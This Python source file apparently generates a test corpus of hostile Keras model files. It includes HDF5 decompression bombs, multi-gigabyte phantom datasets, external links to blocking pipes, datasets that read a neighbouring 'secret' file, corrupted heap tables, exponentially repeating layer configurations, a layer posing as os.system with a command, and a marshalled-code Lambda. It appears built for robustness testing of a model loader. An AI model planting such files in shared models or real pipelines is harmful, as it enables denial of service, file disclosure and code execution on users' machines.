"""Attacks by Keras files: HDF5 objects that are larger than they look, and configurations that repeat."""

from __future__ import annotations

import io
import itertools
import json
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .build import BOMB, KB, MB, RUN, attack, deflated, zipped

try:
    import h5py
    import numpy as np
except ImportError:  # the attacks are listed, and skipped
    h5py = np = None  # type: ignore[assignment]


# -- configurations ----------------------------------------------------------------------------------


def layer(class_name: str, name: str, inbound: list[Any] | None = None, **config: Any) -> dict[str, Any]:
    """One layer in the form of Keras 2."""
    out = {"class_name": class_name, "config": {"name": name, **config}}
    return out if inbound is None else {**out, "name": name, "inbound_nodes": inbound}


def inputs(size: int | None = 3) -> dict[str, Any]:
    return layer("InputLayer", "x", [], batch_input_shape=[None, size], dtype="float32")


def dense(name: str, units: int = 2, inbound: list[Any] | None = None) -> dict[str, Any]:
    return layer("Dense", name, inbound, units=units, activation="linear", use_bias=False)


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}}


def functional(*layers: dict[str, Any], outputs: list[Any], name: str = "m") -> dict[str, Any]:
    config = {"name": name, "layers": list(layers), "input_layers": [["x", 0, 0]], "output_layers": outputs}
    return {"class_name": "Functional", "config": config}


def node(*names: str) -> list[Any]:
    """One call, with the outputs of these layers."""
    return [[name, 0, 0, {}] for name in names]


# -- files -------------------------------------------------------------------------------------------


def texts(owner: Any, name: str, values: list[str]) -> None:
    owner.attrs[name] = np.array([v.encode("utf-8", "surrogatepass") for v in values], dtype="S")


def h5_bytes(config: Any, fill: Callable[[Any], None] = lambda group: None, layers: tuple[str, ...] = ()) -> bytes:
    """A model as ``model.save("m.h5")`` writes it; ``fill`` puts weights into its group."""
    out = io.BytesIO()
    with h5py.File(out, "w") as f:
        text = config if isinstance(config, bytes) else json.dumps(config).encode()
        if len(text) < 60 * KB:
            f.attrs["model_config"] = np.bytes_(text)
        else:
            f.attrs["model_config"] = text.decode("latin1")
        f.attrs["keras_version"] = "2.15.0"
        group = f.create_group("model_weights")
        texts(group, "layer_names", list(layers))
        fill(group)
    return out.getvalue()


def keras_bytes(config: Any, fill: Callable[[Any], None] = lambda root: None) -> bytes:
    """A model as ``model.save("m.keras")`` writes it; ``fill`` puts weights into its HDF5 file."""
    out = io.BytesIO()
    with h5py.File(out, "w", libver="latest") as f:
        fill(f)
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    metadata = b'{"keras_version": "3.0.0"}'
    return zipped({"config.json": text, "metadata.json": metadata, "model.weights.h5": out.getvalue()})


DENSE_MODEL = {"class_name": "Sequential", "config": {"name": "m", "layers": [inputs(), dense("d")]}}


def one_dense(make: Callable[[Any], None]) -> bytes:
    """A model of one layer, whose weight ``make`` puts into its group, under the name k."""

    def fill(group: Any) -> None:
        d = group.create_group("d")
        texts(d, "weight_names", ["k/kernel:0"])
        make(d.create_group("k"))

    return h5_bytes(DENSE_MODEL, fill, ("d",))


# -- datasets ----------------------------------------------------------------------------------------


@attack("m.h5")
def transposed_convolution_of_much() -> bytes:
    """Ten million steps for each of the input."""

    def fill(group: Any) -> None:
        c = group.create_group("c")
        texts(c, "weight_names", ["c/kernel:0"])
        c.create_group("c").create_dataset("kernel:0", data=np.ones((3, 2, 3), "f4"))

    x = layer("InputLayer", "x", [], batch_input_shape=[None, None, 3], dtype="float32")
    options = {"filters": 2, "kernel_size": [3], "strides": [10**7], "padding": "valid", "use_bias": False}
    return h5_bytes(sequential(x, layer("Conv1DTranspose", "c", activation="linear", **options)), fill, ("c",))


@attack("m.h5")
def unwritten_chunked_dataset() -> bytes:
    """A dataset of 4 GB in chunks of which none was written."""
    return one_dense(lambda g: g.create_dataset("kernel:0", (1 << 15, 1 << 15), "f4", chunks=(64, 64)))


@attack("m.h5")
def unwritten_dataset() -> bytes:
    """A dataset of 4 GB that was never written."""
    return one_dense(lambda g: g.create_dataset("kernel:0", (1 << 15, 1 << 15), "f4"))


@attack("m.h5")
def unwritten_small_dataset_with_a_huge_chunk() -> bytes:
    """6 numbers in a chunk of 3 GB."""
    sizes = {"maxshape": (None, None), "chunks": (1 << 16, 12_000)}
    return one_dense(lambda g: g.create_dataset("kernel:0", (3, 2), "f4", **sizes))


@attack("m.h5")
def many_unwritten_chunks() -> bytes:
    """490,000 chunks of one number each."""
    return one_dense(lambda g: g.create_dataset("kernel:0", (700, 700), "f4", chunks=(1, 1)))


@attack("m.h5")
def compressed_zeros() -> bytes:
    """400 MB of zeros, compressed."""

    def make(g: Any) -> None:
        d = g.create_dataset("kernel:0", (100, MB), "f4", chunks=(1, MB), compression="gzip")
        packed = zlib.compress(bytes(4 * MB), 9)
        for i in range(100):
            d.id.write_direct_chunk((i, 0), packed)

    return one_dense(make)


@attack("m.h5")
def a_chunk_that_inflates_for_ever() -> bytes:
    """A chunk of 24 bytes that inflates to 300 MB."""

    def make(g: Any) -> None:
        d = g.create_dataset("kernel:0", (3, 2), "f4", chunks=(3, 2), compression="gzip")
        d.id.write_direct_chunk((0, 0), b"\x78\xda" + deflated(b"\0", BOMB)[0] + b"adler")

    return one_dense(make)


@attack("m.h5")
def chunks_deflated_twice() -> bytes:
    """Two gzip filters, one after the other: a thousand times a thousand."""

    def make(g: Any) -> None:
        settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        settings.set_chunk((3, 2))
        settings.set_deflate(9)
        settings.set_deflate(9)
        space, kind = h5py.h5s.create_simple((3, 2)), h5py.h5t.IEEE_F32LE
        d = h5py.Dataset(h5py.h5d.create(g.id, b"kernel:0", kind, space, settings))
        d.id.write_direct_chunk((0, 0), zlib.compress(zlib.compress(bytes(200 * MB), 9), 9))

    return one_dense(make)


@attack("m.h5")
def other_compression() -> bytes:
    """A filter for which HDF5 would look for a plug-in, or that is not bounded."""
    return one_dense(lambda g: g.create_dataset("kernel:0", data=np.zeros((3, 2), "f4"), compression="lzf"))


@attack("m.h5")
def one_dataset_listed_often() -> bytes:
    """One dataset of 0.8 MB under 1,000 names in a list."""

    def fill(group: Any) -> None:
        d = group.create_group("d")
        d["kernel:0"] = np.zeros((1000, 200), "f4")
        texts(d, "weight_names", ["kernel:0"] * 1000)

    return h5_bytes(DENSE_MODEL, fill, ("d",))


@attack("m.h5")
def one_dataset_linked_often() -> bytes:
    """The same by hard links."""

    def fill(group: Any) -> None:
        d = group.create_group("d")
        d["kernel:0"] = np.zeros((1000, 200), "f4")
        for i in range(1000):
            d[f"w{i}"] = d["kernel:0"]
        texts(d, "weight_names", [f"w{i}" for i in range(1000)])

    return h5_bytes(DENSE_MODEL, fill, ("d",))


@attack("m.h5")
def wide_numbers() -> bytes:
    """A type of numbers that are arrays of a gigabyte."""
    return one_dense(lambda g: g.create_dataset("kernel:0", (3, 2), np.dtype(("f4", (1 << 28,)))))


@attack("m.h5")
def compound_numbers() -> bytes:
    """A type of numbers that are records of texts."""
    kind = [("a", h5py.string_dtype()), ("b", "f4")] if h5py else None
    return one_dense(lambda g: g.create_dataset("kernel:0", (3, 2), kind))


# -- links -------------------------------------------------------------------------------------------


@attack("m.h5")
def soft_link() -> bytes:
    """A weight that is a link to somewhere else."""
    return one_dense(lambda g: g.__setitem__("kernel:0", h5py.SoftLink("/model_weights/d/k/kernel:0")))


@attack("m.h5")
def external_link(folder: Path) -> None:
    """A weight that is a link into another file: a pipe, at which opening it waits for ever."""
    os.mkfifo(folder / "pipe")
    link = h5py.ExternalLink(str(folder / "pipe"), "/kernel:0")
    (folder / "m.h5").write_bytes(one_dense(lambda g: g.__setitem__("kernel:0", link)))


@attack("m.keras")
def external_group(folder: Path) -> None:
    """The group of layers is a link to a pipe."""
    os.mkfifo(folder / "pipe")
    link = h5py.ExternalLink(str(folder / "pipe"), "/layers")
    (folder / "m.keras").write_bytes(keras_bytes(DENSE_MODEL, lambda f: f.__setitem__("layers", link)))


@attack("m.h5")
def external_storage(folder: Path) -> None:
    """A dataset whose numbers lie in another file."""
    (folder / "secret").write_bytes(bytes(24))
    where = [(str(folder / "secret"), 0, 24)]
    (folder / "m.h5").write_bytes(
        one_dense(lambda g: g.create_dataset("kernel:0", (3, 2), "f4", external=where))
    )


@attack("m.h5")
def virtual_dataset(folder: Path) -> None:
    """A dataset put together from another file's."""
    with h5py.File(folder / "secret.h5", "w") as f:
        f["w"] = np.zeros((3, 2), "f4")
    layout = h5py.VirtualLayout((3, 2), "f4")
    layout[:] = h5py.VirtualSource(str(folder / "secret.h5"), "w", (3, 2))
    (folder / "m.h5").write_bytes(one_dense(lambda g: g.create_virtual_dataset("kernel:0", layout)))


@attack("m.keras")
def groups_doubled() -> bytes:
    """40 groups that each hold the next one twice."""

    def fill(f: Any) -> None:
        here = f.create_group("layers")
        for _ in range(40):
            below = here.create_group("a")
            here["b"] = below
            here = below

    return keras_bytes(DENSE_MODEL, fill)


@attack("m.keras")
def group_in_itself() -> bytes:
    """A group that holds itself."""

    def fill(f: Any) -> None:
        layers = f.create_group("layers")
        layers["again"] = layers

    return keras_bytes(DENSE_MODEL, fill)


@attack("m.keras")
def many_groups() -> bytes:
    """20,000 names of one group."""

    def fill(f: Any) -> None:
        layers = f.create_group("layers")
        empty = f.create_group("empty")
        for i in range(20_000):
            layers[f"g{i}"] = empty

    return keras_bytes(DENSE_MODEL, fill)


# -- attributes --------------------------------------------------------------------------------------


@attack("m.h5")
def one_text_in_many_names() -> bytes:
    """4,000 names that are all the same text of 300 KB."""

    def fill(group: Any) -> None:
        d = group.create_group("d")
        names = np.array(["n" * (300 * KB)] + ["short"] * 3999, dtype=object)
        d.attrs.create("weight_names", names, dtype=h5py.string_dtype())

    data = bytearray(h5_bytes(DENSE_MODEL, fill, ("d",)))
    long = data.index(struct.pack("<I", 300 * KB) + data[data.index(struct.pack("<I", 300 * KB)) + 4 :][:12])
    pointer = bytes(data[long : long + 16])
    for i in range(1, 4000):
        data[long + 16 * i : long + 16 * i + 16] = pointer
    return bytes(data)


@attack("m.h5")
def numbers_for_names() -> bytes:
    """A list of names that holds numbers."""

    def fill(group: Any) -> None:
        group.create_group("d").attrs["weight_names"] = np.arange(1000)

    return h5_bytes(DENSE_MODEL, fill, ("d",))


@attack("m.h5")
def names_that_are_no_text() -> bytes:
    """Names that are not UTF-8, and names with control characters."""

    def fill(group: Any) -> None:
        d = group.create_group("d")
        d.attrs["weight_names"] = np.array([b"\xff\xfe", b"\x1b[2J\n"])

    return h5_bytes(DENSE_MODEL, fill, ("d",))


# -- configurations that repeat ----------------------------------------------------------------------


def _called_twice(levels: int) -> dict[str, Any]:
    """A model that calls the next one twice, and so on."""
    model = functional(inputs(), layer("Activation", "a", [node("x")], activation="relu"), outputs=[["a", 0, 0]])
    for level in range(levels):
        inner = {**model, "name": f"n{level}", "inbound_nodes": [node("x"), node("x")]}
        inner["config"] = {**model["config"], "name": f"n{level}"}
        add = layer("Add", "add", [[[f"n{level}", 0, 0, {}], [f"n{level}", 1, 0, {}]]])
        model = functional(inputs(), inner, add, outputs=[["add", 0, 0]])
    return model


@attack("m.h5")
def models_called_twice() -> bytes:
    """40 models that each call the next one twice."""
    return h5_bytes(_called_twice(40))


@attack("m.h5")
def sequentials_nested() -> bytes:
    """2,000 Sequentials in each other."""
    text = b'{"class_name": "Sequential", "config": {"name": "m", "layers": ['
    inner = b'{"class_name": "Dense", "config": {"name": "d", "units": 1}}'
    return h5_bytes(text * 300 + inner + b"]}}" * 300)


@attack("m.h5")
def one_layer_called_often() -> bytes:
    """A Dense of 0.4 MB that is called 5,000 times."""
    calls = [node("x") for _ in range(5000)]
    config = functional(inputs(320), dense("d", 320, calls), outputs=[["d", i, 0] for i in range(5000)])

    def fill(group: Any) -> None:
        d = group.create_group("d")
        d["kernel:0"] = np.random.default_rng(0).standard_normal((320, 320)).astype("f4")
        texts(d, "weight_names", ["kernel:0"])

    return h5_bytes(config, fill, ("d",))


@attack("m.h5")
def layers_in_reverse() -> bytes:
    """6,000 layers of which the last listed must run first."""
    names = ["x", *(f"a{i}" for i in range(6000))]
    layers = [
        layer("Activation", b, [node(a)], activation="relu") for a, b in itertools.pairwise(names)
    ]
    return h5_bytes(functional(inputs(), *layers[::-1], outputs=[[names[-1], 0, 0]]))


@attack("m.h5")
def wide_values() -> bytes:
    """A million features through 200 layers without weights: the self-test would take 10 GB."""
    layers = [layer("Activation", f"a{i}", activation="relu") for i in range(200)]
    return h5_bytes(sequential(inputs(1 << 20), *layers))


@attack("m.h5")
def concatenated_with_itself() -> bytes:
    """A value that is joined with itself 40 times."""
    names = ["x", *(f"c{i}" for i in range(40))]
    layers = [layer("Concatenate", b, [node(a, a)], axis=-1) for a, b in itertools.pairwise(names)]
    return h5_bytes(functional(inputs(), *layers, outputs=[[names[-1], 0, 0]]))


@attack("m.h5")
def config_of_tables() -> bytes:
    """An architecture of 4 MB of small tables."""
    return h5_bytes(b'{"class_name": "Sequential", "config": [' + b'{"a":0},' * (MB // 2) + b"{}]}")


@attack("m.h5")
def config_nested() -> bytes:
    """400,000 lists in each other."""
    return h5_bytes(b"[" * 400_000)


@attack("m.h5")
def config_with_numbers_of_digits() -> bytes:
    """Sizes and options of 400 digits."""
    big = 10**400
    return h5_bytes(sequential(inputs(big), layer("LeakyReLU", "a", alpha=big), dense("d", big)))


@attack("m.h5")
def option_with_a_number_of_digits() -> bytes:
    """An option of 400 digits in a layer that is good otherwise."""
    return h5_bytes(sequential(inputs(), layer("ELU", "a", alpha=10**400)))


@attack("m.h5")
def config_with_a_lone_surrogate() -> bytes:
    """The name of an input that no encoding can write."""
    config = sequential({**inputs(), "config": {**inputs()["config"], "name": "\ud800"}}, layer("ReLU", "a"))
    return h5_bytes(config)


@attack("m.h5")
def config_with_a_long_name() -> bytes:
    """A layer with a name of 0.5 MB, with control characters, that is not known."""
    return h5_bytes(sequential(inputs(), layer("\x1b[2JEvil" * 10, "\x1b[2J" + "n" * (500 * KB))))


@attack("m.keras")
def own_code_in_a_lambda() -> bytes:
    """A Lambda layer with marshalled code."""
    code = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}
    return keras_bytes(sequential(inputs(), layer("Lambda", "evil", function=code)))


@attack("m.keras")
def class_of_another_module() -> bytes:
    """A layer that says it is os.system."""
    evil = {"module": "os", "class_name": "system", "config": {"command": RUN}, "registered_name": None}
    return keras_bytes(sequential(inputs(), evil))



# -- HDF5's own tables -------------------------------------------------------------------------------


@attack("m.h5")
def free_list_without_end() -> bytes:
    """The list of free places in the heaps of names points to itself: HDF5 reads it until memory ends."""
    data, at = bytearray(h5_bytes(DENSE_MODEL, lambda group: group.create_group("d"), ("d",))), 0
    while (at := data.find(b"HEAP", at + 1)) > 0:
        size, _, start = struct.unpack_from("<QQQ", data, at + 8)
        if size >= 32:
            struct.pack_into("<Q", data, at + 16, 16)
            struct.pack_into("<QQ", data, start + 16, 16, 16)
    return bytes(data)


@attack("m.h5")
def free_text_of_no_size() -> bytes:
    """In a collection of texts the free rest has no size: HDF5 never gets behind it."""
    return _free_text(lambda size: 0)


@attack("m.h5")
def free_text_that_ends_early() -> bytes:
    """The free rest ends before the collection does: HDF5 reads on in zeros, which are of no size."""
    return _free_text(lambda size: size - size % 256)


@attack("m.keras")
def archive_with_a_free_text_of_no_size() -> bytes:
    """The same in the weights of an archive."""
    return zipped({"config.json": json.dumps(DENSE_MODEL).encode(), "metadata.json": b'{"keras_version": "3.0.0"}',
                   "model.weights.h5": _free_text(lambda size: 0, named_layers)})  # fmt: skip


def named_layers(root: Any) -> None:
    variables = root.create_group("layers/dense/vars")
    variables.attrs["name"] = "a text of variable length"


def _free_text(resize: Callable[[int], int], fill: Callable[[Any], None] | None = None) -> bytes:
    out = io.BytesIO()
    if fill:
        with h5py.File(out, "w") as f:
            fill(f)
    data = bytearray(out.getvalue() or h5_bytes(DENSE_MODEL))
    at = data.index(b"GCOL") + 16
    while (index := struct.unpack_from("<H6xQ", data, at))[0]:
        at += 16 + (index[1] + 7) // 8 * 8
    struct.pack_into("<Q", data, at + 8, resize(index[1]))
    return bytes(data)


@attack("m.h5")
def heap_claims_much() -> bytes:
    """The heaps of names claim to be as large as memory."""
    data, at = bytearray(h5_bytes(DENSE_MODEL, lambda group: group.create_group("d"), ("d",))), 0
    while (at := data.find(b"HEAP", at + 1)) > 0:
        struct.pack_into("<Q", data, at + 8, 1 << 36)
    return bytes(data)


@attack("m.keras")
def groups_of_many_backslashes() -> bytes:
    """Groups whose names are paths of 30,000 parts, as Windows writes shorter ones."""
    def fill(root: Any) -> None:
        for i in range(8):
            root.create_group("layers/" + "\\".join([chr(97 + i)] * 30_000))

    return keras_bytes(sequential(dense("d")), fill)


@attack("m.keras")
def groups_of_long_names() -> bytes:
    """The same of 90 parts of 600 characters."""
    def fill(root: Any) -> None:
        for i in range(8):
            root.create_group("layers/" + "\\".join([chr(97 + i) * 600] * 90))

    return keras_bytes(sequential(dense("d")), fill)


# -- layers that make much of little ------------------------------------------------------------------


def of_shape(*sizes: int, then: list[dict[str, Any]]) -> bytes:
    """Layers one after the other, none of which has weights."""
    given = layer("InputLayer", "x", batch_input_shape=[None, *sizes], dtype="float32")
    return h5_bytes(sequential(given, *then))


@attack("m.h5")
def images_that_turn_for_ever() -> bytes:
    """5,000 times the axes of a million numbers are put into another order."""
    return of_shape(1024, 1, 1024, then=[layer("Permute", f"p{i}", dims=[3, 2, 1]) for i in range(5000)])


@attack("m.h5")
def images_that_turn_in_place() -> bytes:
    """5,000 times a million numbers stay where they are."""
    return of_shape(1, 1, MB, then=[layer("Permute", f"p{i}", dims=[2, 1, 3]) for i in range(5000)])


@attack("m.h5", exits=(0,))
def a_vector_repeated_for_ever() -> bytes:
    """Two thousand million steps: nobody asks for their numbers."""
    return of_shape(3, then=[layer("RepeatVector", "r", n=2_000_000_000)])


@attack("m.h5")
def a_tile_of_a_thousand_million() -> bytes:
    """More features than any file may have."""
    tile = {"class_name": "TFOpLambda", "name": "t", "config": {"name": "t", "function": "tile"}}
    call = ["x", 0, 0, {"multiples": [1, 1_000_000_000]}]
    return h5_bytes(functional(inputs(), {**tile, "inbound_nodes": [call]}, outputs=[["t", 0, 0]]))


@attack("m.h5")
def steps_in_steps_in_steps() -> bytes:
    """A layer in wrappers in wrappers, which would be there 64 times 64 times 64 times."""
    inner = layer("Masking", "m", mask_value=0.0)
    for name in "abc":
        inner = layer("TimeDistributed", name, layer=inner)
    return of_shape(64, 64, 64, 2, 1, then=[inner])
